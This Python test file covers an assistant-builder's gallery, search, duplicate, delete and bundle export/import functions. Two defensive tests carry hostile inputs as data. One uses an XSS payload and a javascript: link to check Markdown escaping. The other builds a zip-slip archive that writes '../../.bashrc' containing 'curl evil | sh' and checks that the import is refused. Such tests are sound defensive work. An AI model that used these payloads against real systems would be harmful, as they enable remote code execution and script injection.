"""Gallery and Share journeys through the handler functions (fast fakes)."""

from __future__ import annotations

import re
import shutil
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

from test_bundle import snapshot
from test_ui import TEXT, make

from gptbuilder.ui.gallery import Card, Gallery, card_markdown, last_used_text
from gptbuilder.ui.handlers import Handlers

SCREEN = 24  # values Handlers.open_assistant returns


def setup(services, tmp_path: Path) -> tuple[Handlers, Gallery, int]:
    h = Handlers(services)
    aid = make(h)
    f = tmp_path / "office.txt"
    f.write_text(TEXT)
    list(h.upload(aid, [str(f)], None))
    return h, Gallery(h), aid


def test_cards_show_documents_and_last_use_and_search_narrows_them(fake_services, tmp_path):
    h, g, office = setup(fake_services, tmp_path)
    tax = make(h, "Tax helper", ("What is VAT?", "", "", ""))
    h.save_assistant(tax, "Tax helper", "Value added tax questions", "", "", "", "", "", 0.2)
    cards = g.cards("")
    assert [(c.name, c.documents, c.last_used) for c in cards] == [
        ("Office helper", 1, None),
        ("Tax helper", 0, None),
    ]
    list(h.chat(tax, "What is VAT?", []))
    assert [c.name for c in g.cards(None)] == ["Tax helper", "Office helper"], "recent first"
    assert "Last used just now" in card_markdown(g.cards("tax")[0])
    assert [c.name for c in g.cards("VALUE added")] == ["Tax helper"], "description, any case"
    assert [c.name for c in g.cards("office helper")] == ["Office helper"]
    assert g.cards("otters") == [] and "No assistant matches" in g.empty_text("otters")


def test_card_text_is_escaped():
    card = Card(
        1,
        "<img src=x onerror=alert(1)> ![t](http://evil.example/t.png)",
        "**[x](javascript:y)**",
        1,
        None,
    )
    shown = card_markdown(card)
    assert not re.search(r"(?<!\\)[<>\[\]!*]", shown), "every Markdown/HTML character escaped"
    assert "`http://evil.example/t.png`" in shown, "a URL is shown as code, never fetched"
    assert "📄 1 document ·" in shown and "Never used" in shown


def test_last_used_wording():
    now = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)
    assert last_used_text(None, now) == "Never used"
    assert last_used_text(now - timedelta(seconds=5), now) == "Last used just now"
    assert last_used_text(now - timedelta(minutes=7), now) == "Last used 7 min ago"
    assert last_used_text(now - timedelta(hours=1), now) == "Last used 1 hour ago"
    assert last_used_text((now - timedelta(days=1, hours=2)).replace(tzinfo=None), now) == (
        "Last used yesterday"
    )
    assert last_used_text(now - timedelta(days=90), now) == "Last used on 03 Mar 2025"


def test_open_goes_to_the_chat_with_its_starters(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    out = g.open(aid)
    screen, (tabs, picker, active) = out[:SCREEN], out[SCREEN:]
    assert screen[0] == aid and "Office helper" in screen[1]
    assert screen[11]["visible"] and screen[11]["value"] == "When does it open?"
    assert tabs.selected == active == "chat" and picker["value"] == aid
    # Picking in the sidebar also goes to the chat, but only from the gallery.
    assert g.leave_gallery("gallery")[0].selected == "chat"
    assert g.leave_gallery("knowledge") == [{"__type__": "update"}, "knowledge"]


def test_duplicate_copies_configuration_and_documents(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    picker, note, version = g.duplicate(aid, 3)
    assert "Duplicated “Office helper” as “Office helper (2)”" in note and version == 4
    assert {c[0] for c in picker["choices"]} == {"Office helper", "Office helper (2)"}
    [copy] = [c for c in g.cards("") if c.name == "Office helper (2)"]
    assert copy.documents == 1
    assert fake_services.repo.get_assistant(copy.id).starters == ("When does it open?",)
    history, _ = list(h.chat(copy.id, "When does the office open?", []))[-1]
    assert "8 am" in history[-1]["content"] and "office.txt, page 1" in history[-1]["content"]


def test_delete_asks_first_and_keeps_the_assistant_in_use(fake_services, tmp_path):
    h, g, office = setup(fake_services, tmp_path)
    other = make(h, "Other")
    pending, row, question = g.ask_delete(other)
    assert pending == other and row["visible"] and "Delete “Other”?" in question
    assert g.cancel_delete()[0] is None
    assert len(g.cards("")) == 2, "nothing happens until confirmed"

    current, picker, note, row, pending, version = g.delete(other, office, 0)
    assert current == office, "the assistant on screen stays"
    assert "Deleted “Other”" in note and not row["visible"] and pending is None and version == 1
    assert [c.name for c in g.cards("")] == ["Office helper"]

    kept = g.screen_after_delete(office, note)
    assert kept[0] == office and kept[1] == {"__type__": "update"} and kept[-1] == note
    assert len(kept) == SCREEN

    current, _, note, *_ = g.delete(office, office, 1)
    assert current is None and g.cards("") == []
    cleared = g.screen_after_delete(None, note)
    assert cleared[0] is None and "No assistant chosen" in cleared[1]
    assert not [p for p in fake_services.settings.files_dir.rglob("*") if p.is_file()]


def test_export_and_import_an_assistant_file(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    path, note = h.export_bundle(aid, True)
    assert path.endswith("Office-helper.gptb") and "1 document(s), with its search index" in note
    assert "index/vectors.npy" in zipfile.ZipFile(path).namelist()
    plain, note = h.export_bundle(aid, False)
    assert "without its search index" in note
    assert "index/vectors.npy" not in zipfile.ZipFile(plain).namelist()

    seen: list[tuple[float, str]] = []
    new_id, picker, note = h.import_file(path, lambda f, desc: seen.append((f, desc)))
    assert "✅ Imported “Office helper (2)” with 1 document(s)" in note
    assert "All were already indexed here" in note, "same content: its passages are shared"
    assert seen and seen[-1][0] == 1.0 and any("office.txt" in d for _, d in seen)
    assert new_id in {c[1] for c in picker["choices"]}
    history, _ = list(h.chat(new_id, "Where can visitors park?", []))[-1]
    assert "lot B" in history[-1]["content"]

    _, _, note = h.import_file(plain)
    assert "Office helper (3)" in note and "no search index" in note


def test_import_tells_files_apart_by_content_not_name(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    bundle, _ = h.export_bundle(aid, True)
    renamed = tmp_path / "renamed.json"
    shutil.copy(bundle, renamed)
    _, _, note = h.import_file(str(renamed))
    assert "✅ Imported “Office helper (2)” with 1 document(s)" in note
    config, _ = h.export(aid)
    as_bundle = tmp_path / "config.gptb"
    shutil.copy(config, as_bundle)
    _, _, note = h.import_file(str(as_bundle))
    assert "✅ Imported as “Office helper (3)”" in note


def test_a_hostile_file_is_refused_with_a_reason_and_nothing_changes(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    bundle, _ = h.export_bundle(aid, True)
    evil = tmp_path / "evil.gptb"
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(evil, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        dst.writestr("../../.bashrc", "curl evil | sh")
    before = snapshot(fake_services)
    state, picker, note = h.import_file(str(evil))
    assert note.startswith("⚠️") and "points outside its own folder" in note
    assert snapshot(fake_services) == before and len(g.cards("")) == 1
    assert h.export_bundle(None, True)[1].startswith("⚠️")
